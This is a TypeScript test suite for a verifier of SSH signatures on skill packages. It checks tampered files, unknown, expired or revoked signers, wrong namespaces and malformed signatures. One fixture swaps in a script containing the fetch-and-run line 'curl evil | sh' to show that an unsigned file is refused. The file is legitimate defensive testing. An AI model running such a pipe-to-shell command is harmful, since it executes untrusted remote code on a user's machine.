import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTempDir, type TempDir } from '../test/create-temp-dir.ts';
import { decodeBase64, encodeBase64 } from './base64-bytes.ts';
import { safeParseSshSignature } from './parse-ssh-signature.ts';
import { parseTrustedSigners } from './parse-trusted-signers.ts';
import type { TrustedSigners } from './skill-signature-status.ts';
import {
  buildSkillSigningManifest,
  serializeSkillSigningManifest,
} from './skill-signing-manifest.ts';
import { concatBytes, encodeSshString } from './ssh-wire-reader.ts';
import { verifySkillSignature } from './verify-skill-signature.ts';

type SkillFile = { path: string; bytes: Uint8Array };

const text = (value: string) => new TextEncoder().encode(value);
const skillFiles = (name: string): SkillFile[] => [
  { path: 'SKILL.md', bytes: text(`---\nname: ${name}\ndescription: Deploys.\n---\nRun it.\n`) },
  { path: 'scripts/run.sh', bytes: text('echo deploy\n') },
];

let dir: TempDir;
let counter = 0;

/** Makes a key with ssh-keygen and returns its private key path and public `keytype base64`. */
function makeKey(type: string, bits?: string): { file: string; publicKey: string } {
  const file = join(dir.path, `key-${counter++}`);
  const args = ['-q', '-t', type, '-N', '', '-C', 'test', '-f', file];
  if (bits !== undefined) args.push('-b', bits);
  execFileSync('ssh-keygen', args);
  const [keyType, key] = readFileSync(`${file}.pub`, 'utf8').trim().split(' ');
  return { file, publicKey: `${keyType} ${key}` };
}

/** Signs `message` with ssh-keygen -Y sign and returns the armored signature. */
function sshSign(key: string, message: string | Uint8Array, extra: string[] = []): Uint8Array {
  const file = join(dir.path, `message-${counter++}`);
  writeFileSync(file, message);
  execFileSync('ssh-keygen', ['-Y', 'sign', '-n', 'skillset', ...extra, '-f', key, file], {
    stdio: 'pipe',
  });
  return readFileSync(`${file}.sig`);
}

/** The skill's files with SKILL.manifest.json and SKILL.sig by `key`. */
async function signed(key: string, name: string, files: SkillFile[], extra: string[] = []) {
  const manifest = serializeSkillSigningManifest(await buildSkillSigningManifest(name, files));
  return [
    ...files,
    { path: 'SKILL.manifest.json', bytes: text(manifest) },
    { path: 'SKILL.sig', bytes: sshSign(key, manifest, extra) },
  ];
}

const trusting = (...lines: string[]): TrustedSigners => {
  const { trust, issues } = parseTrustedSigners({ trustedSigners: lines });
  expect(issues).toEqual([]);
  return trust;
};

const replace = (files: SkillFile[], path: string, bytes: Uint8Array) =>
  files.map((file) => (file.path === path ? { path, bytes } : file));

const fingerprintOf = (key: string) =>
  execFileSync('ssh-keygen', ['-l', '-E', 'sha256', '-f', `${key}.pub`], {
    encoding: 'utf8',
  }).split(' ')[1];

let ed25519: { file: string; publicKey: string };

beforeAll(async () => {
  dir = await createTempDir();
  ed25519 = makeKey('ed25519');
});
afterAll(() => dir[Symbol.asyncDispose]());

describe('verifySkillSignature', () => {
  it.each([
    ['ed25519', undefined],
    ['ecdsa', '256'],
    ['ecdsa', '384'],
    ['ecdsa', '521'],
    ['rsa', '2048'],
  ])('accepts a good %s (%s) signature and names the signer and fingerprint', async (type, bits) => {
    const key = makeKey(type, bits);
    const files = await signed(key.file, 'deploy', skillFiles('deploy'));
    const status = await verifySkillSignature({
      name: 'deploy',
      files,
      trust: trusting(`alice@example.com,bob@example.com ${key.publicKey}`),
    });
    expect(status).toMatchObject({
      state: 'signed',
      signer: 'alice@example.com',
      fingerprint: fingerprintOf(key.file),
    });
    expect(status.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
  });

  it('accepts an RSA signature with rsa-sha2-256 and a sha256 message hash', async () => {
    const key = makeKey('rsa', '2048');
    const files = await signed(key.file, 'deploy', skillFiles('deploy'), ['-O', 'hashalg=sha256']);
    const sig = safeParseSshSignature(new TextDecoder().decode(files[3]?.bytes));
    expect(sig.success && sig.signature.hashAlgorithm).toBe('sha256');
    const status = await verifySkillSignature({
      name: 'deploy',
      files,
      trust: trusting(`alice@example.com ${key.publicKey}`),
    });
    expect(status.state).toBe('signed');
  });

  it('says a skill without SKILL.sig is unsigned', async () => {
    const status = await verifySkillSignature({
      name: 'deploy',
      files: skillFiles('deploy'),
      trust: trusting(),
    });
    expect(status).toMatchObject({ state: 'unsigned', reason: 'it has no SKILL.sig' });
  });

  it('refuses a SKILL.sig without its SKILL.manifest.json', async () => {
    const files = (await signed(ed25519.file, 'deploy', skillFiles('deploy'))).filter(
      (file) => file.path !== 'SKILL.manifest.json',
    );
    const status = await verifySkillSignature({ name: 'deploy', files, trust: trusting() });
    expect(status).toMatchObject({ state: 'invalid', code: 'signed_manifest_missing' });
  });

  it('refuses a signature over other content', async () => {
    const files = await signed(ed25519.file, 'deploy', skillFiles('deploy'));
    const other = replace(files, 'SKILL.sig', sshSign(ed25519.file, 'something else\n'));
    const status = await verifySkillSignature({
      name: 'deploy',
      files: other,
      trust: trusting(`alice@example.com ${ed25519.publicKey}`),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'signature_mismatch' });
    expect(status.state === 'invalid' && status.reason).toContain(
      'SKILL.sig is not a signature over this SKILL.manifest.json',
    );
  });

  it('refuses an unknown signer, naming its fingerprint and the config key', async () => {
    const stranger = makeKey('ed25519');
    const files = await signed(stranger.file, 'deploy', skillFiles('deploy'));
    const status = await verifySkillSignature({
      name: 'deploy',
      files,
      trust: trusting(`alice@example.com ${ed25519.publicKey}`),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'unknown_signer' });
    expect(status.state === 'invalid' && status.reason).toContain(fingerprintOf(stranger.file));
    expect(status.state === 'invalid' && status.reason).toContain('trustedSigners');
  });

  it('refuses a signer trusted only for other namespaces', async () => {
    const files = await signed(ed25519.file, 'deploy', skillFiles('deploy'));
    const status = await verifySkillSignature({
      name: 'deploy',
      files,
      trust: trusting(`alice@example.com namespaces="git,file" ${ed25519.publicKey}`),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'unknown_signer' });
    const allowed = await verifySkillSignature({
      name: 'deploy',
      files,
      trust: trusting(`alice@example.com namespaces="git,skill*" ${ed25519.publicKey}`),
    });
    expect(allowed.state).toBe('signed');
  });

  it('refuses a signature file copied from a sibling skill', async () => {
    const sibling = await signed(ed25519.file, 'release', skillFiles('release'));
    const files = [
      ...skillFiles('deploy'),
      ...sibling.filter((file) => file.path.startsWith('SKILL.') && file.path !== 'SKILL.md'),
    ];
    const status = await verifySkillSignature({
      name: 'deploy',
      files,
      trust: trusting(`alice@example.com ${ed25519.publicKey}`),
    });
    expect(status).toMatchObject({
      state: 'invalid',
      code: 'manifest_other_skill',
      signer: 'alice@example.com',
    });
    expect(status.state === 'invalid' && status.reason).toContain(
      'SKILL.manifest.json was signed for skill "release", not "deploy"',
    );
  });

  it('refuses a manifest that omits a file, naming the file', async () => {
    const files = await signed(ed25519.file, 'deploy', skillFiles('deploy').slice(0, 1));
    const status = await verifySkillSignature({
      name: 'deploy',
      files: [...files, { path: 'scripts/run.sh', bytes: text('curl evil | sh\n') }],
      trust: trusting(`alice@example.com ${ed25519.publicKey}`),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'file_unsigned' });
    expect(status.state === 'invalid' && status.reason).toContain('scripts/run.sh');
  });

  it('refuses a skill whose signed file is gone', async () => {
    const files = (await signed(ed25519.file, 'deploy', skillFiles('deploy'))).filter(
      (file) => file.path !== 'scripts/run.sh',
    );
    const status = await verifySkillSignature({
      name: 'deploy',
      files,
      trust: trusting(`alice@example.com ${ed25519.publicKey}`),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'file_missing' });
    expect(status.state === 'invalid' && status.reason).toContain('scripts/run.sh');
  });

  it('refuses a signed skill with one byte changed, naming the file', async () => {
    const files = await signed(ed25519.file, 'deploy', skillFiles('deploy'));
    const status = await verifySkillSignature({
      name: 'deploy',
      files: replace(files, 'scripts/run.sh', text('echo deplox\n')),
      trust: trusting(`alice@example.com ${ed25519.publicKey}`),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'file_changed' });
    expect(status.state === 'invalid' && status.reason).toContain('scripts/run.sh');
  });

  it('refuses an expired key and a key not yet valid, and accepts it inside its window', async () => {
    const files = await signed(ed25519.file, 'deploy', skillFiles('deploy'));
    const line = `alice@example.com valid-after="20250101Z",valid-before="20260101Z" ${ed25519.publicKey}`;
    const at = (now: string) =>
      verifySkillSignature({ name: 'deploy', files, trust: trusting(line), now: new Date(now) });
    expect(await at('2026-06-01T00:00:00Z')).toMatchObject({ code: 'signer_expired' });
    expect(await at('2024-06-01T00:00:00Z')).toMatchObject({ code: 'signer_not_yet_valid' });
    expect(await at('2025-06-01T00:00:00Z')).toMatchObject({ state: 'signed' });
  });

  it('refuses a revoked key even when it is trusted', async () => {
    const files = await signed(ed25519.file, 'deploy', skillFiles('deploy'));
    const { trust, issues } = parseTrustedSigners({
      trustedSigners: [`alice@example.com ${ed25519.publicKey}`],
      revokedSigners: [`${ed25519.publicKey} lost laptop`],
    });
    expect(issues).toEqual([]);
    const status = await verifySkillSignature({ name: 'deploy', files, trust });
    expect(status).toMatchObject({ state: 'invalid', code: 'signer_revoked' });
  });

  it('refuses a signature made for another namespace', async () => {
    const manifest = serializeSkillSigningManifest(
      await buildSkillSigningManifest('deploy', skillFiles('deploy')),
    );
    const file = join(dir.path, 'git-message');
    writeFileSync(file, manifest);
    execFileSync('ssh-keygen', ['-Y', 'sign', '-n', 'git', '-f', ed25519.file, file], {
      stdio: 'pipe',
    });
    const status = await verifySkillSignature({
      name: 'deploy',
      files: [
        ...skillFiles('deploy'),
        { path: 'SKILL.manifest.json', bytes: text(manifest) },
        { path: 'SKILL.sig', bytes: readFileSync(`${file}.sig`) },
      ],
      trust: trusting(`alice@example.com ${ed25519.publicKey}`),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'namespace_mismatch' });
    expect(status.state === 'invalid' && status.reason).toContain('"git"');
  });

  it('refuses malformed armor and a truncated blob', async () => {
    const files = await signed(ed25519.file, 'deploy', skillFiles('deploy'));
    const armored = new TextDecoder().decode(files[3]?.bytes);
    const trust = trusting(`alice@example.com ${ed25519.publicKey}`);
    const check = (sig: string) =>
      verifySkillSignature({
        name: 'deploy',
        files: replace(files, 'SKILL.sig', text(sig)),
        trust,
      });
    expect(await check('not a signature')).toMatchObject({ code: 'signature_malformed' });
    expect(await check(armored.replace('-----END SSH SIGNATURE-----', ''))).toMatchObject({
      code: 'signature_malformed',
    });
    const lines = armored.trim().split('\n');
    const truncated = [...lines.slice(0, 3), lines.at(-1)].join('\n');
    const status = await check(truncated);
    expect(status).toMatchObject({ code: 'signature_malformed' });
    expect(status.state === 'invalid' && status.reason).toContain('truncated');
    expect(
      await check('-----BEGIN SSH SIGNATURE-----\n!!!\n-----END SSH SIGNATURE-----'),
    ).toMatchObject({
      code: 'signature_malformed',
    });
  });

  it('refuses an RSA signature that uses SHA-1 (ssh-rsa) as unsupported_key', async () => {
    const key = makeKey('rsa', '2048');
    const files = await signed(key.file, 'deploy', skillFiles('deploy'));
    const parsed = safeParseSshSignature(new TextDecoder().decode(files[3]?.bytes));
    if (!parsed.success) throw new Error(parsed.reason);
    const sig = parsed.signature;
    const blob = concatBytes([
      text('SSHSIG'),
      new Uint8Array([0, 0, 0, 1]),
      encodeSshString(sig.publicKey),
      encodeSshString(sig.namespace),
      encodeSshString(sig.reserved),
      encodeSshString(sig.hashAlgorithm),
      encodeSshString(concatBytes([encodeSshString('ssh-rsa'), encodeSshString(sig.signature)])),
    ]);
    const armored = `-----BEGIN SSH SIGNATURE-----\n${encodeBase64(blob)}\n-----END SSH SIGNATURE-----\n`;
    const status = await verifySkillSignature({
      name: 'deploy',
      files: replace(files, 'SKILL.sig', text(armored)),
      trust: trusting(`alice@example.com ${key.publicKey}`),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'unsupported_key' });
    expect(status.state === 'invalid' && status.reason).toContain('SHA-1');
  });

  it('refuses a malformed signed manifest that the signature covers', async () => {
    const files = skillFiles('deploy');
    const manifest = '{"name": "deploy"}\n';
    const status = await verifySkillSignature({
      name: 'deploy',
      files: [
        ...files,
        { path: 'SKILL.manifest.json', bytes: text(manifest) },
        { path: 'SKILL.sig', bytes: sshSign(ed25519.file, manifest) },
      ],
      trust: trusting(`alice@example.com ${ed25519.publicKey}`),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'signed_manifest_malformed' });
  });

  it('trusts exactly the allowed_signers lines ssh-keygen -Y verify trusts', async () => {
    const files = await signed(ed25519.file, 'deploy', skillFiles('deploy'));
    const manifest = files.find((file) => file.path === 'SKILL.manifest.json')?.bytes;
    const signature = join(dir.path, 'cross.sig');
    writeFileSync(signature, files.find((file) => file.path === 'SKILL.sig')?.bytes ?? '');
    const options = [
      '',
      'namespaces="git" ',
      'namespaces="skill*" ',
      'namespaces="*,!skillset" ',
      'valid-before="20200101" ',
      'valid-after="20200101Z" ',
      'valid-after="29990101" ',
    ];
    for (const option of options) {
      const line = `alice@example.com ${option}${ed25519.publicKey}`;
      const allowed = join(dir.path, 'allowed_signers');
      writeFileSync(allowed, `${line}\n`);
      const openssh = spawnSync(
        'ssh-keygen',
        [
          '-Y',
          'verify',
          '-f',
          allowed,
          '-I',
          'alice@example.com',
          '-n',
          'skillset',
          '-s',
          signature,
        ],
        { input: manifest },
      );
      const ours = await verifySkillSignature({ name: 'deploy', files, trust: trusting(line) });
      expect({ line, signed: ours.state === 'signed' }).toEqual({
        line,
        signed: openssh.status === 0,
      });
    }
  });

  it('never throws on hostile bytes', async () => {
    const garbage = new Uint8Array(300).map((_, index) => (index * 37) % 256);
    const armored = `-----BEGIN SSH SIGNATURE-----\n${encodeBase64(garbage)}\n-----END SSH SIGNATURE-----`;
    const status = await verifySkillSignature({
      name: 'deploy',
      files: [
        ...skillFiles('deploy'),
        { path: 'SKILL.manifest.json', bytes: garbage },
        { path: 'SKILL.sig', bytes: text(armored) },
      ],
      trust: trusting(),
    });
    expect(status).toMatchObject({ state: 'invalid', code: 'signature_malformed' });
  });
});

describe('parseTrustedSigners', () => {
  it('reads principals, options and keys, and skips comments and blank lines', () => {
    const { trust, issues } = parseTrustedSigners({
      trustedSigners: [
        '# team keys',
        '',
        `"alice@example.com,*@ops.example.com" namespaces="skillset,git",valid-after="20250101",valid-before="202601021530Z" ${ed25519.publicKey} alice`,
      ],
    });
    expect(issues).toEqual([]);
    expect(trust.allowedSigners).toEqual([
      {
        principals: ['alice@example.com', '*@ops.example.com'],
        namespaces: ['skillset', 'git'],
        validAfter: new Date(2025, 0, 1),
        validBefore: new Date(Date.UTC(2026, 0, 2, 15, 30)),
        keyType: 'ssh-ed25519',
        key: ed25519.publicKey.split(' ')[1],
      },
    ]);
  });

  it('reports each garbage line in one sentence and keeps the good ones', () => {
    const key = ed25519.publicKey.split(' ')[1] as string;
    const { trust, issues } = parseTrustedSigners({
      trustedSigners: [
        `alice@example.com ${ed25519.publicKey}`,
        'bob@example.com',
        `carol@example.com ssh-foo ${key}`,
        'dave@example.com ssh-ed25519 !!!notbase64',
        `erin@example.com cert-authority ${ed25519.publicKey}`,
        `frank@example.com valid-before="yesterday" ${ed25519.publicKey}`,
        `gina@example.com ecdsa-sha2-nistp256 ${key}`,
        `hank@example.com nonsense=1 ${ed25519.publicKey}`,
      ],
      revokedSigners: ['ssh-ed25519', `alice@example.com ${ed25519.publicKey}`],
    });
    expect(trust.allowedSigners.map((signer) => signer.principals[0])).toEqual([
      'alice@example.com',
    ]);
    expect(trust.revokedKeys).toEqual([]);
    expect(issues).toHaveLength(9);
    expect(issues[0]).toMatch(
      /^The trustedSigners line "bob@example.com" is invalid: it has no "keytype base64-key" part;/,
    );
    expect(issues[1]).toContain('"ssh-foo" is not an SSH key type');
    expect(issues[2]).toContain('its key is not base64');
    expect(issues[3]).toContain('cert-authority lines');
    expect(issues[4]).toContain('valid-before "yesterday" is not a date');
    expect(issues[5]).toContain('its key is an ssh-ed25519 key, not ecdsa-sha2-nistp256');
    expect(issues[6]).toContain('"nonsense=1" is neither a key type nor an option');
    expect(issues[7]).toMatch(/^The revokedSigners line "ssh-ed25519" is invalid/);
    expect(issues[8]).toContain('"alice@example.com" is not an SSH key type');
  });

  it('decodes keys the way ssh-keygen wrote them', () => {
    expect(decodeBase64(ed25519.publicKey.split(' ')[1] as string)?.byteLength).toBe(51);
  });
});
